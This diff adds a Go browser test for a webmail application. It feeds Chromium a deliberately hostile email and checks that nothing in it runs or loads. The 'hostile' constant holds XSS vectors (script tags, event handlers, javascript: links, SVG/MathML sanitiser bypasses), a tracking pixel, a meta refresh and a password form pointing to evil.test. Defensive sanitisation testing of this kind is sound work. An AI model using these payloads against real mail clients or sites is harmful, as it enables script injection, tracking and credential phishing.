@@ -1,0 +1,151 @@
+package browser_test
+
+import (
+	"bufio"
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"os"
+	"os/exec"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+
+	"github.com/emersion/go-imap/v2"
+
+	"colporteur/world"
+)
+
+// reading is what the script in Node is told.
+type reading struct {
+	Chromium string `json:"chromium"`
+	Base     string `json:"base"`
+	Shots    string `json:"shots"`
+	Ann      reader `json:"ann"`
+	Bob      reader `json:"bob"`
+	Many     int    `json:"many"` // conversations that Bob has
+}
+
+type reader struct {
+	Address  string `json:"address"`
+	Password string `json:"password"`
+	Lang     string `json:"lang"`
+}
+
+// hostile is a mail with one of everything that must not run or load.
+const hostile = "From: Bob <bob@home.test>\r\nTo: ann@home.test\r\nSubject: =?utf-8?q?M=C3=A9chant?= <script>window.stolen=1</script>\r\nMIME-Version: 1.0\r\n" +
+	"Content-Type: multipart/related; boundary=r\r\n\r\n--r\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" +
+	`<html><head><base href="https://evil.test/"><meta http-equiv="refresh" content="0;url=https://evil.test/"><style>@import url(https://evil.test/x.css); p { background: url(https://evil.test/p.png); color: red }</style>
+<script>parent.stolen = 1</script></head><body onload="parent.stolen=1"><p onclick="parent.stolen=1">Des mots innocents</p>
+<img src="https://evil.test/pixel.gif" width="1" height="1"><img src="x" onerror="parent.stolen=1"><img src="cid:photo@x" alt="la photo">
+<svg onload="parent.stolen=1"><script>parent.stolen=1</script></svg><math><mtext><style><img src onerror=parent.stolen=1></style></mtext></math>
+<a href="javascript:parent.stolen=1">lien</a><iframe src="https://evil.test/"></iframe><form action="https://evil.test/"><input name=password><button>Continuer</button></form>
+<div style="position:fixed;background:url(https://evil.test/b.png);color:green">fin</div></body></html>` +
+	"\r\n--r\r\nContent-Type: image/jpeg\r\nContent-ID: <photo@x>\r\nContent-Transfer-Encoding: base64\r\n\r\n"
+
+// TestMailInARealBrowser keeps its screenshots in $COLPORTEUR_SHOTS, if that is set.
+func TestMailInARealBrowser(t *testing.T) {
+	t.Parallel()
+	ready(t)
+	chromium, err := exec.LookPath("chromium")
+	if err != nil {
+		t.Fatal("chromium is missing: install Debian's package chromium (make deps does)")
+	}
+	w := world.New(t)
+	home := w.Server("home.test")
+	ann, bob := home.Member("ann", "fr"), home.Member("bob", "en")
+	bob.Send(ann.Address, world.Subject("Été à la mer"), world.Text("Bonjour Ann,\r\nvoici la photo de la plage, et les autres viendront dimanche quand tout le monde sera rentré.\r\n-- \r\nBob\r\n"), world.Attach("mer.jpg", "image/jpeg", photo(3)))
+	bob.Send(ann.Address, world.Subject("Assemblée générale du 28 novembre"), world.Text("Chers amis,\r\n\r\nl'ordre du jour est prêt : https://home.test/ordre.\r\nÀ bientôt.\r\n"))
+	c := ann.IMAP()
+	raw := hostile + base64Lines(photo(5)) + "\r\n--r--\r\n"
+	cmd := c.Append("INBOX", int64(len(raw)), nil)
+	cmd.Write([]byte(raw))
+	cmd.Close()
+	if _, err := cmd.Wait(); err != nil {
+		t.Fatal(err)
+	}
+	c.Close()
+	const many = 400
+	c = bob.IMAP()
+	for i := range many {
+		raw := fmt.Sprintf("From: Ann Petit <ann@home.test>\r\nTo: bob@home.test\r\nSubject: Message %d of many\r\nMessage-ID: <many%d@home.test>\r\n\r\nWords of mail %d.\r\n", i+1, i, i+1)
+		cmd := c.Append("INBOX", int64(len(raw)), &imap.AppendOptions{Time: time.Date(2026, 1, 1, 0, i, 0, 0, time.UTC)})
+		cmd.Write([]byte(raw))
+		cmd.Close()
+		if _, err := cmd.Wait(); err != nil {
+			t.Fatal(err)
+		}
+	}
+	c.Close()
+	w.Settle()
+	s := reading{Chromium: chromium, Base: "http://" + home.Addr("http"), Shots: os.Getenv("COLPORTEUR_SHOTS"), Many: many,
+		Ann: reader{ann.Address, ann.Password, "fr"}, Bob: reader{bob.Address, bob.Password, "en"}}
+	if s.Shots == "" {
+		s.Shots = t.TempDir()
+	}
+	ctx, cancel := context.WithTimeout(t.Context(), 5*time.Minute)
+	defer cancel()
+	node := exec.CommandContext(ctx, "node", "mail.mjs")
+	node.SysProcAttr = &syscall.SysProcAttr{Setpgid: true} // Chromium goes with it
+	node.Cancel = func() error { return syscall.Kill(-node.Process.Pid, syscall.SIGKILL) }
+	node.Stderr = os.Stderr
+	in, err := node.StdinPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	out, err := node.StdoutPipe()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := node.Start(); err != nil {
+		t.Fatal(err)
+	}
+	say := func(v string) { fmt.Fprintln(in, v) }
+	told, err := json.Marshal(s)
+	if err != nil {
+		t.Fatal(err)
+	}
+	say(string(told))
+	lines := bufio.NewScanner(out)
+	lines.Buffer(nil, 1<<20)
+	for lines.Scan() {
+		switch line := lines.Text(); {
+		case line == "do mail":
+			bob.Send(ann.Address, world.Subject("Une nouvelle toute fraîche"), world.Text("Elle est arrivée.\r\n> ce que tu disais\r\n> et encore\r\n"))
+			say("")
+		case line == "do sent":
+			w.Advance(11 * time.Second) // the ten in which it can be taken back
+			w.Settle()
+			got := ""
+			for _, m := range bob.Inbox().All {
+				if strings.HasPrefix(m.Subject, "Une lettre") {
+					got += m.Subject + "|" + strings.TrimSpace(m.Text)
+					for _, f := range m.Files {
+						got += "|" + f.Name
+					}
+				}
+			}
+			say(got)
+		case strings.HasPrefix(line, "ok "):
+			t.Log(line)
+		default:
+			t.Error(line)
+		}
+	}
+	if err := node.Wait(); err != nil && !t.Failed() {
+		t.Error(err)
+	}
+}
+
+func base64Lines(b []byte) string {
+	s := base64.StdEncoding.EncodeToString(b)
+	var out strings.Builder
+	for len(s) > 76 {
+		out.WriteString(s[:76] + "\r\n")
+		s = s[76:]
+	}
+	out.WriteString(s)
+	return out.String()
+}
